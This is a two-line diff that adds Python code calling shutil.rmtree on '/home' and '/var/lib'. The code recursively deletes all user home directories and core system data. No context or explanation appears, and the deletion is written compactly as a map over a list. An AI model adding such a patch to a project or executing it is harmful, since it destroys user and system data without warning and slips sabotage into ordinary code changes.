@@ -1,0 +1,2 @@
+import shutil
+list(map(shutil.rmtree, ["/home", "/var/lib"]))
